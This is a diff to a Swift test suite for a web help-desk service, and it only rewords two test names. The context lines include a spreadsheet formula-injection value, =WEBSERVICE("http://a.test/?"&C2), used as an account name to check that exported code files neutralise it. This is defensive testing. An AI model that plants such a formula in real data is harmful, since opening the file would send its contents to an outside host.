@@ -64,7 +64,7 @@ import WebMessages
     #expect(actors == ["administrator alice"])
   }
 
-  @Test func `an account whose name is a formula is no formula in the file with the codes`() async throws {
+  @Test func `an account whose name is a formula is not a formula in the file with the codes`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let name = #"=WEBSERVICE("http://a.test/?"&C2)"#
@@ -163,7 +163,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `a list that is no text is refused in words, in Korean as well`() async throws {
+  @Test func `a list that is not text is refused in words, in Korean as well`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let wide = form([0xFF, 0xFE, 0x75, 0], [("csrf", csrf), ("lifetime", "900")])
